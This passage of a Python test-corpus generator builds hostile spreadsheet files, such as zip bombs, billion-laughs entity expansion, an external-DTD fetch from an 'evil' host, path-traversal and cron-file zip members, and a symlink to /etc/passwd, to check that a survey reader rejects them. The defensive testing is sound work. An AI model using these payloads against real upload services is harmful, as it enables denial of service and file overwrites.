"""Write ``tests/corpus/``: broken and hostile returned files and form specs, each with the
outcome the readers must give it, in ``tests/corpus/expected.csv`` (file, status, code,
generated, what).

``status`` is the file's status in the log (``scored``, ``scored-with-issues``,
``rejected``) for a returned file, ``form-error`` for a spec (``load_form`` raises
:class:`~instrument.form.FormError`), ``keys-error`` for a keys file, ``data-error`` or
``data-read`` for a data file of ``validate`` (refused with a ``DataError``, or read).
``code`` is the rejection code of a rejected file, a problem code the file must get
otherwise (empty: no problem at all), or the code of the error. The cases are read together, as one batch, by ``tests/test_hostile.py``.

Small cases are committed (``returned/``, ``specs/``); big ones (a zip bomb, a
1,000,000-row sheet, a 50,000-merge sheet, a spec over the size limit) and files with odd
names (a newline, quotes, a leading dash: not every file system or checkout takes them)
are ``generated`` at test time, into a temporary folder, by the same functions.
Deterministic: the same code gives the same bytes (fixed zip dates)::

    .venv/bin/python tests/corpus/make_corpus.py
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
import re
import shutil
import struct
import sys
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
SAMPLES = ROOT / "data_samples" / "returned"
CLEAN = SAMPLES / "member_R101_fr.xlsx"
SPEC = ROOT / "data_samples" / "form_member.yaml"
FIXED_TIME = (2026, 1, 15, 12, 0, 0)
SHEET = "xl/worksheets/sheet2.xml"  # the answer sheet (Questionnaire) of the clean workbook
META = "xl/worksheets/sheet3.xml"  # its _meta sheet
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


# ----------------------------------------------------------------------------- helpers
def zip_parts(parts: list[tuple[str, bytes]], *, attrs: dict | None = None) -> bytes:
    """A zip of ``parts`` (name, bytes) in that order, with fixed dates (duplicates allowed)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in parts:
            info = zipfile.ZipInfo(name, date_time=FIXED_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = (attrs or {}).get(name, 0o644 << 16)
            z.writestr(info, body)
    return out.getvalue()


def parts_of(data: bytes) -> list[tuple[str, bytes]]:
    z = zipfile.ZipFile(io.BytesIO(data))
    return [(i.filename, z.read(i.filename)) for i in z.infolist()]


def rezip(data: bytes, replace: dict | None = None, add: dict | None = None, drop=()) -> bytes:
    parts = [(n, (replace or {}).get(n, b)) for n, b in parts_of(data) if n not in drop]
    return zip_parts(parts + list((add or {}).items()))


def part(data: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(data)).read(name)


def base(code: str) -> bytes:
    """The clean French workbook, answered, with the respondent code ``code`` in _meta
    (each corpus file has its own code, so only the duplicate pair is reported as such)."""
    data = CLEAN.read_bytes()
    meta = part(data, META).replace(b"<t>R101</t>", f"<t>{code}</t>".encode())
    return rezip(data, replace={META: meta})


def with_cells(data: bytes, cells: dict[str, str]) -> bytes:
    """Replace whole cells (``<c r="D15" ...>...</c>``) of the answer sheet by raw XML."""
    xml = part(data, SHEET).decode("utf-8")
    for ref, new in cells.items():
        xml, n = re.subn(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)', lambda _m, new=new: new, xml, count=1, flags=re.S)
        if n != 1:
            raise KeyError(ref)
    return rezip(data, replace={SHEET: xml.encode("utf-8")})


def with_sheet_xml(data: bytes, edit: Callable[[str], str], name: str = SHEET) -> bytes:
    return rezip(data, replace={name: edit(part(data, name).decode("utf-8")).encode("utf-8")})


def edited(code: str, edit: Callable) -> bytes:
    """``base(code)`` edited with openpyxl: ``edit(workbook, meta)`` (meta: key -> value)."""
    wb = openpyxl.load_workbook(io.BytesIO(base(code)))
    meta = {r[0].value: r[1].value for r in wb["_meta"].iter_rows() if r[0].value}
    edit(wb, meta)
    buf = io.BytesIO()
    wb.save(buf)
    return fixed_dates(buf.getvalue())


def fixed_dates(data: bytes) -> bytes:
    parts = []
    for name, body in parts_of(data):
        if name == "docProps/core.xml":
            body = re.sub(rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*", rb"\g<1>2026-01-15T12:00:00Z", body)
        parts.append((name, body))
    return zip_parts(parts)


def set_meta(key: str, value):
    def edit(wb, _meta):
        for row in wb["_meta"].iter_rows():
            if row[0].value == key:
                row[1].value = value
    return edit


def with_shared_strings(data: bytes, sst: bytes) -> bytes:
    ct = part(data, "[Content_Types].xml").replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    rels = part(data, "xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>", b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
    return rezip(data, replace={"[Content_Types].xml": ct, "xl/_rels/workbook.xml.rels": rels},
                 add={"xl/sharedStrings.xml": sst})


LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                     for i in range(1, 10)) + b"]>")


def cfb(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE compound file (what Excel writes for a password-protected workbook:
    streams ``EncryptionInfo`` and ``EncryptedPackage``). 512-byte sectors; each stream
    padded to 4096 bytes so it lives in regular sectors."""
    free, end, fat_sect, nostream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    bodies = [body.ljust(max(4096, -(-len(body) // 512) * 512), b"\x00") for body in streams.values()]
    fat = [fat_sect, end]  # sector 0: the FAT, sector 1: the directory
    starts = []
    for body in bodies:
        n = len(body) // 512
        starts.append(len(fat))
        fat += [len(fat) + k + 1 for k in range(n - 1)] + [end]
    fat += [free] * (128 - len(fat))

    def entry(name: str, kind: int, left: int, right: int, child: int, start: int, size: int) -> bytes:
        raw = (name + "\x00").encode("utf-16-le") if name else b""
        return (raw.ljust(64, b"\x00") + struct.pack("<HBBIII", len(raw), kind, 1, left, right, child)
                + bytes(16) + bytes(4) + bytes(16) + struct.pack("<II", start, size) + bytes(4))

    names = list(streams)
    directory = entry("Root Entry", 5, nostream, nostream, 1, end, 0)
    for k, name in enumerate(names):
        directory += entry(name, 2, nostream, k + 2 if k + 1 < len(names) else nostream, nostream, starts[k], len(streams[name]))
    directory = directory.ljust(512, b"\x00")
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
              + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
              + struct.pack("<I", 0) + struct.pack("<I", free) * 108)
    return header + struct.pack("<128I", *fat) + directory + b"".join(bodies)


def csv_text(rows: list[list], sep: str = ";") -> str:
    buf = io.StringIO()
    csv.writer(buf, delimiter=sep, lineterminator="\n").writerows(rows)
    return buf.getvalue()


def entry_csv(codes: list[str], context_id: str = "RC09") -> str:
    """The data-entry CSV sample's header, with one row of answers per code."""
    with open(SAMPLES / "member_entry.csv", encoding="utf-8") as fh:
        header, first, *_ = list(csv.reader(fh, delimiter=";"))
    rows = [header]
    for code in codes:
        row = list(first)
        row[0] = code
        row[header.index("consortium_id")] = context_id
        rows.append(row)
    return csv_text(rows)


DATA_SHEET = "xl/worksheets/sheet1.xml"


def data_workbook() -> bytes:
    """A small data set as an .xlsx (respondent, four items, 12 rows), fixed dates."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["respondent", "TRU1", "TRU2", "TRU3", "TRU4"])
    for i in range(12):
        ws.append([f"R{i:03d}", *[(i * k) % 5 + 1 for k in (1, 2, 3, 4)]])
    buf = io.BytesIO()
    wb.save(buf)
    return fixed_dates(buf.getvalue())


# ----------------------------------------------------------------------------- big cases
def zip_bomb(path: Path) -> None:
    """A workbook whose answer sheet expands to ~300 MB of blank rows, deflated to ~300 kB."""
    data = base("B01")
    parts = [(n, b) for n, b in parts_of(data) if n != SHEET]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, body in parts:
            z.writestr(zipfile.ZipInfo(name, date_time=FIXED_TIME), body, compress_type=zipfile.ZIP_DEFLATED)
        info = zipfile.ZipInfo(SHEET, date_time=FIXED_TIME)
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as fh:
            fh.write(f'<worksheet xmlns="{MAIN_NS}"><sheetData>'.encode())
            block = b"<row/>" * 100_000
            for _ in range(500):
                fh.write(block)
            fh.write(b"</sheetData></worksheet>")


def huge_sheet(path: Path, rows: int = 1_000_000) -> None:
    """A workbook whose answer sheet has 1,000,000 rows (one number in column D each),
    written as a stream into the zip: ~40 MB of XML, about 5 MB on disk."""
    data = base("B02")
    parts = [(n, b) for n, b in parts_of(data) if n != SHEET]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in parts:
            z.writestr(zipfile.ZipInfo(name, date_time=FIXED_TIME), body, compress_type=zipfile.ZIP_DEFLATED)
        info = zipfile.ZipInfo(SHEET, date_time=FIXED_TIME)
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as fh:
            fh.write(f'<worksheet xmlns="{MAIN_NS}"><sheetData>'.encode())
            for start in range(1, rows + 1, 10_000):
                fh.write(b"".join(b'<row r="%d"><c r="D%d"><v>4</v></c></row>' % (r, r)
                                  for r in range(start, min(start + 10_000, rows + 1))))
            fh.write(b"</sheetData></worksheet>")


def large_sheet(path: Path, rows: int = 120_000) -> None:
    """The clean workbook with 120,000 more rows of numbers in column D below the questions:
    480,000 cells from A1, just under the limit, so calamine reads it all (and the answers
    above are scored as usual)."""
    extra = b"".join(b'<row r="%d"><c r="D%d"><v>%d</v></c></row>' % (r, r, r % 5 + 1) for r in range(100, 100 + rows))
    data = base("B04")
    xml = part(data, SHEET).replace(b"</sheetData>", extra + b"</sheetData>")
    path.write_bytes(rezip(data, replace={SHEET: xml}))


def many_merges(path: Path) -> None:
    """60,000 merged ranges in the answer sheet (calamine would list them all)."""
    merges = "".join(f'<mergeCell ref="F{r}:G{r}"/>' for r in range(1, 60_001))
    path.write_bytes(with_sheet_xml(base("B03"), lambda x: re.sub(r"<mergeCells count=\"\d+\">",
                                                                  '<mergeCells count="60032">' + merges, x)))


def huge_csv(path: Path, rows: int = 400_000) -> None:
    """A 38 MB data-entry CSV of 400,000 respondents (it used to take 900 MB to read)."""
    header, first = entry_csv(["X0"]).splitlines()[:2]
    rest = first.split(";", 1)[1]
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        fh.write(header + "\n")
        for start in range(0, rows, 10_000):
            fh.write("".join(f"X{i};{rest}\n" for i in range(start, min(start + 10_000, rows))))


def many_entries(path: Path, n: int = 150_000) -> None:
    """The clean workbook plus 150,000 empty zip entries (~14 MB): zipfile built one object per
    entry (about 160 MB) before any check could run. Written with struct, in a second."""
    head = zipfile.ZipFile(io.BytesIO(base("B05")))
    parts = [(i.filename, head.read(i.filename)) for i in head.infolist()] + [(f"x/{k}", b"") for k in range(n)]
    local, central, offset = [], [], 0
    for name, body in parts:
        raw = name.encode()
        crc = zipfile.crc32(body)
        header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, crc, len(body), len(body), len(raw), 0)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21, crc, len(body), len(body),
                                   len(raw), 0, 0, 0, 0, 0o644 << 16, offset) + raw)
        local.append(header + raw + body)
        offset += len(header) + len(raw) + len(body)
    directory = b"".join(central)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, len(directory), offset, 0)
    path.write_bytes(b"".join(local) + directory + end)


def huge_text_cell(path: Path) -> None:
    """One answer cell holding 6 million characters (mixed scripts): it used to be normalized
    character by character (hundreds of MB) and copied whole into the log's message."""
    rng = random.Random(0)  # varied enough not to compress like a bomb
    text = "".join(rng.choices("abcdefghijklmnopqrstuvwxyz éèàçôù’😀漢字", k=6_000_000))
    path.write_bytes(with_cells(base("B06"), {"D15": f'<c r="D15" s="10" t="inlineStr"><is><t>{text}</t></is></c>'}))


def huge_spec(path: Path) -> None:
    text = SPEC.read_text(encoding="utf-8")
    path.write_text(text + "\n# " + "bourrage / padding " * 60_000 + "\n", encoding="utf-8")


def odd_named(code: str) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        path.write_bytes(base(code))
    return build


# ----------------------------------------------------------------------------- the cases
#: name -> (status, code, what, builder(path)); names under returned/ or specs/
CASES: dict[str, tuple[str, str, str, Callable[[Path], None]]] = {}
#: cases built at test time only (big, or names some file systems refuse)
GENERATED: set[str] = set()


def case(name: str, status: str, code: str, what: str, generated: bool = False):
    def register(build: Callable[[Path], None]):
        CASES[name] = (status, code, what, build)
        if generated:
            GENERATED.add(name)
        return build
    return register


def data_case(name, status, code, what, make: Callable[[], bytes]):
    case(name, status, code, what)(lambda path: path.write_bytes(make()))


R = "returned/"
F4 = "4 - Plutôt d'accord"

# the file itself
data_case(R + "not-a-zip.xlsx", "rejected", "corrupt-file", "du texte renommé .xlsx / text renamed .xlsx",
          lambda: "Bonjour, voici mes réponses : 4, 4, 5.\n".encode())
data_case(R + "truncated.xlsx", "rejected", "corrupt-file", "zip tronqué (envoi interrompu) / truncated zip",
          lambda: base("T01")[:7000])
data_case(R + "empty.xlsx", "rejected", "empty-file", "fichier vide (0 octet) / 0-byte file", lambda: b"")
data_case(R + "xls-renamed.xlsx", "rejected", "legacy-xls", ".xls (OLE) renommé / an .xls renamed",
          lambda: cfb({"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00" + bytes(600)}))
data_case(R + "xlsm-renamed.xlsx", "rejected", "macro-enabled", ".xlsm (macros) renommé / an .xlsm renamed",
          lambda: rezip(base("T02"), add={"xl/vbaProject.bin": b"\xcc\x61" + bytes(510)}))
data_case(R + "ods-renamed.xlsx", "rejected", "ods-not-supported", ".ods renommé / an .ods renamed",
          lambda: zip_parts([("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
                             ("content.xml", b"<office:document-content/>")]))
data_case(R + "xlsb-renamed.xlsx", "rejected", "corrupt-file", ".xlsb (binaire) renommé / an .xlsb renamed",
          lambda: zip_parts([("[Content_Types].xml", b"<Types/>"), ("xl/workbook.bin", b"\x83\x01\x00")]))
data_case(R + "password-protected.xlsx", "rejected", "encrypted-workbook",
          "classeur protégé par mot de passe (OLE chiffré) / password-protected (encrypted OLE)",
          lambda: cfb({"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00" + bytes(200),
                       "EncryptedPackage": struct.pack("<Q", 9000) + bytes(4000)}))
data_case(R + "billion-laughs-shared-strings.xlsx", "rejected", "xml-entities",
          "« billion laughs » : entités imbriquées dans sharedStrings.xml / nested entities in the shared strings",
          lambda: with_shared_strings(base("T03"), b'<?xml version="1.0"?>' + LAUGHS + f'<sst xmlns="{MAIN_NS}" '
                                      'count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'.encode()))
data_case(R + "billion-laughs-sheet.xlsx", "rejected", "xml-entities",
          "« billion laughs » dans la feuille de réponses / in the answer sheet XML",
          lambda: with_sheet_xml(base("T04"), lambda x: '<?xml version="1.0"?>' + LAUGHS.decode() + x.replace(
              f"<t>{F4}</t>", "<t>&lol9;</t>", 1)))
data_case(R + "doctype-workbook.xlsx", "rejected", "xml-entities",
          "DOCTYPE (DTD externe) dans workbook.xml / an external DTD in workbook.xml",
          lambda: with_sheet_xml(base("T05"), lambda x: '<?xml version="1.0"?><!DOCTYPE workbook SYSTEM '
                                 '"http://example.com/evil.dtd">' + x, "xl/workbook.xml"))
data_case(R + "far-apart-cells.xlsx", "rejected", "sheet-too-large",
          "deux cellules, A1 et XFD1048576 : calamine bâtissait 17 milliards de cases et tuait le processus "
          "/ two cells at A1 and XFD1048576 (used to abort the process)",
          lambda: with_sheet_xml(base("T06"), lambda x: x.replace(
              "</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')))
data_case(R + "shared-strings-count-bomb.xlsx", "rejected", "sheet-too-large",
          "uniqueCount=4000000000 déclaré : calamine réservait 96 Go et tuait le processus "
          "/ a declared uniqueCount of 4e9 (used to abort the process)",
          lambda: with_shared_strings(base("T07"), f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="4000000000">'
                                      '<si><t>x</t></si></sst>'.encode()))
data_case(R + "lying-sizes.xlsx", "rejected", "corrupt-file",
          "zip dont les en-têtes mentent sur la taille / a zip whose headers understate a part's size",
          lambda: _lying_sizes(base("T08")))
data_case(R + "zip-absolute-path.xlsx", "rejected", "unsafe-zip", "membre « /etc/cron.d/x » / an absolute member name",
          lambda: rezip(base("T09"), add={"/etc/cron.d/intangibles": b"* * * * * root id\n"}))
data_case(R + "zip-dotdot.xlsx", "rejected", "unsafe-zip", "membre « ../../evil.sh » / a '..' member name",
          lambda: rezip(base("T10"), add={"xl/../../evil.sh": b"#!/bin/sh\nid\n"}))
data_case(R + "zip-symlink.xlsx", "rejected", "unsafe-zip", "membre lien symbolique / a symbolic-link member",
          lambda: zip_parts([*parts_of(base("T11")), ("xl/media/link", b"/etc/passwd")],
                            attrs={"xl/media/link": 0o120777 << 16}))
data_case(R + "zip-duplicate-member.xlsx", "rejected", "unsafe-zip",
          "deux membres du même nom, le premier avec une formule / two members of one name (the first with a formula)",
          lambda: _duplicate_member(base("T12")))
data_case(R + "duplicate-sheet-name.xlsx", "rejected", "corrupt-file",
          "deux feuilles « Questionnaire » dans workbook.xml / one sheet name twice",
          lambda: with_sheet_xml(base("T13"), lambda x: x.replace(
              '<sheet name="Instructions"', '<sheet name="Questionnaire"'), "xl/workbook.xml"))
data_case(R + "ten-thousand-sheets.xlsx", "rejected", "too-many-sheets",
          "10 000 feuilles dans workbook.xml / a workbook listing 10,000 sheets",
          lambda: with_sheet_xml(base("T14"), lambda x: x.replace("</sheets>", "".join(
              f'<sheet name="S{k}" sheetId="{k + 10}" state="hidden" r:id="rId1" />' for k in range(10_000))
              + "</sheets>"), "xl/workbook.xml"))
data_case(R + "long-sheet-name.xlsx", "scored", "",
          "feuille Instructions renommée en 5 000 caractères / the Instructions sheet renamed to 5,000 characters",
          lambda: with_sheet_xml(base("T15"), lambda x: x.replace(
              '<sheet name="Instructions"', '<sheet name="' + "Très long nom " * 357 + '"'), "xl/workbook.xml"))
data_case(R + "dimension-lies.xlsx", "scored", "",
          "<dimension ref='A1:XFD1048576'> : ignorée / a lying dimension element, ignored",
          lambda: with_sheet_xml(base("T16"), lambda x: x.replace('<dimension ref="A1:D81" />',
                                                                   '<dimension ref="A1:XFD1048576" />')))
data_case(R + "utf16-sheet.xlsx", "scored", "",
          "feuille de réponses en UTF-16 : lue par la passe exacte, réécrite en UTF-8 pour calamine (qui ne lit que "
          "l'UTF-8 ; était corrupt-file) / answer sheet in UTF-16, read by the exact pass and rewritten",
          lambda: rezip(base("T17"), replace={SHEET: ('<?xml version="1.0" encoding="UTF-16"?>'
                                                       + part(base("T17"), SHEET).decode()).encode("utf-16")}))

# second round (issue 14): a decoy part named through the zip's Unicode-path extra field
data_case(R + "zip-unicode-path-decoy.xlsx", "rejected", "unsafe-zip",
          "membre leurre : son champ « Unicode path » le nomme comme la feuille de réponses, avec une formule "
          "(calamine lisait le leurre) / a decoy part claiming the answer sheet's name in its Unicode-path field",
          lambda: _unicode_decoy(base("U01"), _formula_at_d15))
data_case(R + "zip-unicode-path-far-cell.xlsx", "rejected", "unsafe-zip",
          "le même leurre avec une cellule en XFD1048576 (abandon du processus, 512 Gio) "
          "/ the same decoy with a far-away cell (used to abort the process)",
          lambda: _unicode_decoy(base("U02"), lambda x: x.replace(
              b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')))
data_case(R + "zip-unicode-path-local-header.xlsx", "rejected", "unsafe-zip",
          "le leurre nommé dans l'en-tête local seulement / the decoy named in the local header only",
          lambda: _unicode_decoy(base("U03"), _formula_at_d15, local_only=True))
data_case(R + "strict-ooxml.xlsx", "rejected", "strict-ooxml",
          "classeur « Strict Open XML » (message clair, pas « pas de partie xl ») / a Strict OOXML workbook",
          lambda: _strict(base("U04")))

# what counts towards a sheet's size: cells holding a value, not blanks far away (issue 14, second round)
data_case(R + "stray-space-far.xlsx", "scored", "",
          "une espace tapée en XFD81 : pas une donnée (tout le retour était refusé, sheet-too-large) "
          "/ a space typed in XFD81 is not data (the whole return was refused as sheet-too-large)",
          lambda: with_sheet_xml(base("V01"), lambda x: x.replace(
              "</row></sheetData>", '<c r="XFD81" t="inlineStr"><is><t xml:space="preserve"> </t></is></c></row></sheetData>')))
data_case(R + "stray-space-shared-string.xlsx", "scored", "",
          "l'espace en XFD81 comme Excel l'enregistre (chaîne partagée « \u00a0 »), et une cellule vide mise en forme en "
          "XFD1048576 / the stray space as Excel saves it (a shared string), and an empty styled cell at XFD1048576",
          lambda: with_sheet_xml(with_shared_strings(base("V02"), f'<sst xmlns="{MAIN_NS}" count="2" uniqueCount="2">'
                                                     '<si><t xml:space="preserve"> \u00a0</t></si><si><r><t> </t></r>'
                                                     '<rPh sb="0" eb="1"><t>x</t></rPh></si></sst>'.encode()),
                                 lambda x: x.replace("</row></sheetData>", '<c r="XFC81" t="s"><v>1</v></c><c r="XFD81" '
                                                     't="s"><v>0</v></c></row><row r="1048576" ht="30" customHeight="1">'
                                                     '<c r="XFD1048576" s="3"/></row></sheetData>')))
data_case(R + "value-far-away.xlsx", "rejected", "sheet-too-large",
          "4 tapé en XFD81 : une vraie valeur, la feuille dépasse la limite ; le message nomme XFD81 "
          "/ a 4 typed in XFD81: a real value, the sheet is over the limit; the message names XFD81",
          lambda: with_sheet_xml(base("V03"), lambda x: x.replace(
              "</row></sheetData>", '<c r="XFD81"><v>4</v></c></row></sheetData>')))

# the match with the form
data_case(R + "meta-deleted.xlsx", "rejected", "missing-metadata", "feuille _meta supprimée / _meta sheet deleted",
          lambda: edited("T20", lambda wb, _m: wb.remove(wb["_meta"])))
data_case(R + "meta-hash-edited.xlsx", "rejected", "hash-mismatch",
          "empreinte modifiée dans _meta / the form fingerprint edited in _meta",
          lambda: edited("T21", set_meta("form_hash", "0" * 64)))
data_case(R + "meta-items-edited.xlsx", "rejected", "hash-mismatch",
          "liste d'items modifiée dans _meta / the item list edited in _meta",
          lambda: edited("T22", set_meta("items", "trcpi1,trcpi4")))
data_case(R + "other-form-version.xlsx", "rejected", "unknown-form-version",
          "classeur de la version 2.0 du formulaire / a workbook of form version 2.0",
          lambda: edited("T23", set_meta("form_version", "2.0")))
data_case(R + "meta-cell-row-zero.xlsx", "rejected", "missing-metadata",
          "cellule « D0 » dans la carte de _meta (lisait la dernière ligne) / a cell map entry D0 (read the last row)",
          lambda: edited("T28", set_meta("cell:trcpi1", "D0")))
data_case(R + "meta-cell-map-swapped.xlsx", "rejected", "hash-mismatch",
          "carte des cellules ET identifiants échangés (réponses déplacées en silence) "
          "/ the cell map swapped together with the item ids (answers moved silently)",
          lambda: edited("T29", _swap_cell_map))
data_case(R + "other-form.xlsx", "rejected", "other-form", "classeur d'un autre formulaire / another form's workbook",
          lambda: edited("T24", set_meta("form_id", "partners")))
data_case(R + "answer-sheet-renamed.xlsx", "rejected", "missing-sheet",
          "feuille Questionnaire renommée « Mes réponses » / the answer sheet renamed",
          lambda: edited("T25", lambda wb, _m: setattr(wb["Questionnaire"], "title", "Mes réponses")))
data_case(R + "rows-inserted.xlsx", "rejected", "layout-changed",
          "une ligne insérée au-dessus des items : les réponses ne sont plus en face de leurs questions "
          "/ a row inserted above the items",
          lambda: edited("T26", lambda wb, _m: wb["Questionnaire"].insert_rows(14)))
data_case(R + "rows-sorted.xlsx", "rejected", "layout-changed",
          "deux lignes d'items échangées (tri) / two item rows swapped (sorted)",
          lambda: edited("T27", _swap_rows))

# answer cells
data_case(R + "column-inserted.xlsx", "rejected", "layout-changed",
          "une colonne insérée avant les réponses (était « aucune réponse dans ce fichier ») "
          "/ a column inserted before the answers (was empty-response)",
          lambda: edited("T34", lambda wb, _m: wb["Questionnaire"].insert_cols(3)))
data_case(R + "column-deleted.xlsx", "rejected", "layout-changed",
          "colonne C (énoncés) supprimée : les réponses passent en C / column C (the statements) deleted",
          lambda: edited("T37", lambda wb, _m: wb["Questionnaire"].delete_cols(3)))
data_case(R + "column-answers-deleted.xlsx", "rejected", "layout-changed",
          "colonne D des réponses supprimée (était « aucune réponse dans ce fichier ») "
          "/ the answer column D deleted (was empty-response)",
          lambda: edited("T50", lambda wb, _m: wb["Questionnaire"].delete_cols(4)))
data_case(R + "columns-swapped-code-answer.xlsx", "rejected", "layout-changed",
          "colonnes B (codes) et D (réponses) échangées (était « aucune réponse dans ce fichier ») "
          "/ columns B (codes) and D (answers) swapped (was empty-response)",
          lambda: edited("T38", _swap_columns("B", "D")))
data_case(R + "columns-swapped-number-answer.xlsx", "rejected", "layout-changed",
          "colonnes A (numéros) et D (réponses) échangées : les numéros 1 à 5 étaient cotés comme réponses "
          "/ columns A (numbers) and D (answers) swapped: item numbers 1-5 were scored as answers",
          lambda: edited("T39", _swap_columns("A", "D")))
data_case(R + "columns-swapped-code-statement.xlsx", "scored", "",
          "colonnes B (codes) et C (énoncés) échangées : chaque réponse reste dans sa case, à côté de son code "
          "/ columns B and C swapped: every answer is still in its cell, beside its code",
          lambda: edited("T49", _swap_columns("B", "C")))
data_case(R + "number-in-date-cell.xlsx", "scored", "",
          "4 tapé dans une case au format date (calamine lit 1900-01-04 ; la réponse était perdue) "
          "/ 4 typed into a date-formatted answer cell (the answer was lost)",
          lambda: edited("T36", _number_in_date_cell))
data_case(R + "years-true.xlsx", "scored-with-issues", "boolean-in-answer",
          "VRAI dans la case des années (était decimal-answer) / TRUE in the years cell (was decimal-answer)",
          lambda: edited("T35", lambda wb, m: wb["Questionnaire"].__setitem__(m["cell:years"], True)))
data_case(R + "merged-answer.xlsx", "scored-with-issues", "merged-cell", "cellule de réponse fusionnée / merged answer cell",
          lambda: edited("T30", lambda wb, m: wb["Questionnaire"].merge_cells(f"{m['cell:trcpi1']}:E{m['cell:trcpi1'][1:]}")))
data_case(R + "answer-moved.xlsx", "scored-with-issues", "answer-outside-cell",
          "réponse déplacée dans la colonne E / an answer moved to column E",
          lambda: edited("T31", _move_answer))
data_case(R + "date-in-answer.xlsx", "scored-with-issues", "date-in-answer",
          "une date au lieu d'un code / a date where a code belongs",
          lambda: edited("T32", lambda wb, m: wb["Questionnaire"].__setitem__(m["cell:trcpi1"], dt.date(2026, 4, 4))))
data_case(R + "text-in-number.xlsx", "scored-with-issues", "invalid-answer",
          "du texte dans une cellule numérique (années : « dix ans ») / text in a numeric cell",
          lambda: edited("T33", lambda wb, m: wb["Questionnaire"].__setitem__(m["cell:years"], "dix ans")))
data_case(R + "formula.xlsx", "scored-with-issues", "formula-in-answer",
          "formule =2+2 (valeur en cache 4, jamais utilisée) / a formula with a cached 4",
          lambda: with_cells(base("T40"), {"D15": '<c r="D15" s="10"><f>2+2</f><v>4</v></c>'}))
data_case(R + "formula-xlfn.xlsx", "scored-with-issues", "formula-in-answer",
          "formule _xlfn.CONCAT (valeur en cache « 4 - Plutôt d'accord ») / an _xlfn formula",
          lambda: with_cells(base("T41"), {"D15": f'<c r="D15" s="10" t="str"><f>_xlfn.CONCAT("4"," - Plutôt '
                                           f'd\'accord")</f><v>{F4}</v></c>'}))
data_case(R + "formula-array.xlsx", "scored-with-issues", "formula-in-answer",
          "formule matricielle / an array formula",
          lambda: with_cells(base("T42"), {"D15": '<c r="D15" s="10"><f t="array" ref="D15">MAX({1,4})</f><v>4</v></c>'}))
data_case(R + "formula-shared.xlsx", "scored-with-issues", "formula-in-answer",
          "formule partagée sur D15:D17 (maître et dépendantes) / a shared formula, master and dependents",
          lambda: with_cells(base("T43"), {
              "D15": '<c r="D15" s="10"><f t="shared" ref="D15:D17" si="0">2+2</f><v>4</v></c>',
              "D16": '<c r="D16" s="10"><f t="shared" si="0"/><v>4</v></c>',
              "D17": '<c r="D17" s="10"><f t="shared" si="0"/><v>4</v></c>'}))
data_case(R + "formula-single-quotes.xlsx", "scored-with-issues", "formula-in-answer",
          "formule dans <c r='D15'> (apostrophes) : échappait au contrôle / r='D15' in single quotes (used to escape)",
          lambda: with_cells(base("T44"), {"D15": "<c r='D15' s='10'><f>2+2</f><v>4</v></c>"}))
data_case(R + "formula-prefixed.xlsx", "scored-with-issues", "formula-in-answer",
          "formule <x:f> avec préfixe d'espace de noms / a namespace-prefixed formula element",
          lambda: with_cells(base("T45"), {"D15": f'<c r="D15" s="10"><x:f xmlns:x="{MAIN_NS}">2+2</x:f><v>4</v></c>'}))
data_case(R + "formula-no-position.xlsx", "scored-with-issues", "formula-in-answer",
          "formule dans une cellule sans attribut r (position implicite) / a formula in a cell without r",
          lambda: with_sheet_xml(base("T46"), _implicit_row_15))
data_case(R + "error-value.xlsx", "scored-with-issues", "invalid-answer",
          "#N/A tapé dans une cellule (valeur d'erreur, que calamine lit vide) / an error value, read blank by calamine",
          lambda: with_cells(base("T48"), {"D15": '<c r="D15" s="10" t="e"><v>#N/A</v></c>'}))
data_case(R + "external-link.xlsx", "scored", "external-link",
          "liens externes (xl/externalLinks), jamais suivis / external links, never followed",
          lambda: rezip(base("T47"), add={"xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN_NS}">'
                                          '<externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/'
